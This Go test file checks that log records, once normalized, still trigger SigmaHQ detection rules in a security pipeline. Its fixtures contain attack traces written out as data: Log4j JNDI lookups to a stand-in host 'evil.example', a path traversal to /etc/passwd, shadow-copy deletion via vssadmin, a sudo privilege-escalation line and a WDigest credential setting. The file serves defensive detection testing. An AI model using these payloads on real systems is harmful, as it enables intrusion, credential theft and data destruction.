// Package sigma holds the taxonomy to what normalize does: raw records go through normalize, and SigmaHQ's rules, which
// speak other names, must still find them.
package sigma

import (
	"os"
	"path/filepath"
	"slices"
	"testing"

	"leat/pkg/detect"
	"leat/pkg/event"
	"leat/pkg/normalize"
)

// rulesOf finds SigmaHQ's rules, which are no part of the repository.
func rulesOf(t *testing.T, set string) string {
	t.Helper()
	root := os.Getenv("LEAT_SHARED")
	if root == "" {
		root = filepath.Join("..", "..", "..", "shared")
	}
	p := filepath.Join(root, "sigma", set)
	if _, err := os.Stat(p); err != nil {
		t.Skipf("third-party data is not here: %v (set LEAT_SHARED)", err)
	}
	return p
}

// TestRulesFindNormalizedEvents: a raw record of each source, and a rule of SigmaHQ's that it must raise behind normalize.
func TestRulesFindNormalizedEvents(t *testing.T) {
	m, err := normalize.Load()
	if err != nil {
		t.Fatal(err)
	}
	d, err := detect.New(detect.Config{
		Rules: []string{rulesOf(t, "rules"), rulesOf(t, "rules-emerging-threats"), rulesOf(t, "rules-threat-hunting")}, Routing: true,
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct{ name, line, rule string }{
		{"CloudTrail", `{"eventVersion":"1.08","eventTime":"2026-01-02T03:04:05Z","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.7","userAgent":"x","userIdentity":{"type":"IAMUser","userName":"ann","accountId":"1"},"eventType":"AwsApiCall"}`, "AWS CloudTrail Important Change"},
		{"CloudTrail root", `{"eventVersion":"1.08","eventTime":"2026-01-02T03:04:05Z","eventSource":"ec2.amazonaws.com","eventName":"RunInstances","awsRegion":"us-east-1","sourceIPAddress":"198.51.100.7","userAgent":"x","userIdentity":{"type":"Root","arn":"arn:aws:iam::1:root","accountId":"1"},"eventType":"AwsApiCall"}`, "AWS Root Credentials"},
		{"Okta", `{"eventType":"policy.rule.update","published":"2026-11-24T08:00:00.000Z","displayMessage":"Update policy rule","severity":"INFO","uuid":"u1","actor":{"id":"00u1","type":"User","alternateId":"ann@example.com","displayName":"Ann"},"client":{"ipAddress":"192.0.2.1"},"outcome":{"result":"SUCCESS"},"target":[]}`, "Okta Policy Rule Modified or Deleted"},
		{"Kubernetes", `{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"a1","stage":"ResponseComplete","requestURI":"/api/v1/namespaces/x/secrets?limit=5","verb":"list","user":{"username":"ann"},"sourceIPs":["192.0.2.1"],"objectRef":{"resource":"secrets","namespace":"x"},"responseStatus":{"code":200},"requestReceivedTimestamp":"2026-11-24T08:00:00Z"}`, "Kubernetes Secrets Enumeration"},
		{"web server", `203.0.113.5 - - [24/Nov/2026:08:12:03 +0100] "GET /search?q=${jndi:ldap://evil.example/a} HTTP/1.1" 200 512 "-" "curl/8.5.0"`, "Log4j RCE CVE-2021-44228 Generic"},
		{"web server, user agent", `203.0.113.5 - - [24/Nov/2026:08:12:03 +0100] "GET / HTTP/1.1" 200 512 "-" "${jndi:ldap://evil.example/a}"`, "Log4j RCE CVE-2021-44228 Generic"},
		{"web server, path", `203.0.113.5 - - [24/Nov/2026:08:12:03 +0100] "GET /a?f=../../../../etc/passwd HTTP/1.1" 200 512 "-" "Mozilla/5.0"`, "Path Traversal Exploitation Attempts"},
		{"proxy", `1795506001.277   3387 192.0.2.1 TCP_MISS/200 1913 GET http://www.example/a.hta - HIER_DIRECT/198.51.100.9 application/hta`, "Download From Suspicious TLD - Whitelist"},
		{"Zeek DNS", `{"_path":"dns","ts":1795506001.5,"uid":"CAbd","id.orig_h":"192.0.2.1","id.orig_p":5,"id.resp_h":"198.51.100.53","id.resp_p":53,"proto":"udp","trans_id":7,"query":"xmr.pool.minergate.com","qclass_name":"C_INTERNET","qtype_name":"A","rcode_name":"NOERROR","rejected":false}`, "DNS Events Related To Mining Pools"},
		{"Zeek HTTP", `{"_path":"http","ts":1795506001.5,"uid":"CAbe","id.orig_h":"192.0.2.1","id.orig_p":5,"id.resp_h":"203.0.113.80","id.resp_p":80,"trans_depth":1,"method":"GET","host":"203.0.113.80","uri":"/x.exe","user_agent":"Microsoft-WebDAV-MiniRedir/10.0","status_code":200,"resp_mime_types":["application/x-dosexec"]}`, "Executable from Webdav"},
		{"Sysmon", `{"EventID":1,"Channel":"Microsoft-Windows-Sysmon/Operational","Provider_Name":"Microsoft-Windows-Sysmon","Computer":"WS1.corp","UtcTime":"2026-11-24 08:00:00.123","Image":"C:\\Windows\\System32\\vssadmin.exe","OriginalFileName":"VSSADMIN.EXE","CommandLine":"vssadmin.exe delete shadows /all /quiet","User":"CORP\\ann"}`, "Shadow Copies Deletion Using Operating Systems Utilities"},
		{"Security 4688", `{"EventID":4688,"Channel":"Security","Provider_Name":"Microsoft-Windows-Security-Auditing","Computer":"WS1.corp","TimeCreated":"2026-11-24T08:00:00Z","NewProcessName":"C:\\Windows\\System32\\vssadmin.exe","CommandLine":"vssadmin.exe delete shadows /all /quiet","SubjectUserName":"ann"}`, "Shadow Copies Deletion Using Operating Systems Utilities"},
		{"nested Sysmon", `{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon"}},"EventID":13,"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws2","TimeCreated":{"#attributes":{"SystemTime":"2026-11-24T08:00:00Z"}}},"EventData":{"TargetObject":"HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential","Details":"DWORD (0x00000001)","Image":"C:\\a.exe"}}}`, "Wdigest Enable UseLogonCredential"},
		{"sudo", `Nov 24 08:12:03 web1 sudo:    ann : TTY=pts/0 ; PWD=/home/ann ; USER=#-1 ; COMMAND=/bin/bash`, "Sudo Privilege Escalation CVE-2019-14287 - Builtin"},
		{"auditd, as Elastic's", `{"event":{"dataset":"auditd.log","kind":"event"},"auditd":{"data":{"a0":"chmod","a1":"777","type":"EXECVE"},"message_type":"EXECVE"},"@timestamp":"2026-11-24T08:00:00Z"}`, "File or Folder Permissions Change"},
		{"auditd, ours", `{"event":{"dataset":"linux.auditd","kind":"event"},"linux":{"auditd":{"a0":"chmod","a1":"+x","a2":"/tmp/x","type":"EXECVE"}},"@timestamp":"2026-11-24T08:00:00Z"}`, "File or Folder Permissions Change"},
	} {
		t.Run(c.name, func(t *testing.T) {
			got, normal := titles(t, normalize.New(normalize.Config{Mappings: m}), d, c.line)
			if !slices.Contains(got, c.rule) {
				t.Errorf("raised %q, not %q: %s", got, c.rule, normal)
			}
		})
	}
}

// titles returns the titles of the rules that the record raises, and what normalize made of it.
func titles(t *testing.T, n *normalize.Stage, d *detect.Stage, line string) (out []string, normal string) {
	t.Helper()
	var b event.Batch
	b.Push([]byte(line))
	if err := n.Process(&b); err != nil {
		t.Fatal(err)
	}
	b.Compact()
	normal = string(b.Events[0].Append(nil))
	if err := d.Process(&b); err != nil {
		t.Fatal(err)
	}
	b.Compact()
	for _, e := range b.Events[1:] {
		out = append(out, e.Get(event.MustPath("rule.name")).String())
	}
	return out, normal
}
